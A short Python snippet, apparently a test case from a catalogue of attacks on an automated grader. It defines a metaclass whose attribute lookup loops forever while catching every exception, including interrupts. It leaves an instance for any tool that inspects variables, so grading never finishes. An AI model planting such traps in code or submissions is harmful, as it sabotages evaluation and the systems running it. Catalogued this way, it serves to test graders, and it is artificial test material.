# attack: trap_for_whoever_looks_around
# kind: exhaust
# tries: leaves an object whose class never ends looking up an attribute, for whoever walks through the variables
# seen: grading does not end in time
# deserves: nothing
# extra: before 3.2a
# %%
class Trap(type):
    def __getattr__(cls, name):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass


class Bait(metaclass=Trap):
    pass


bait = Bait()
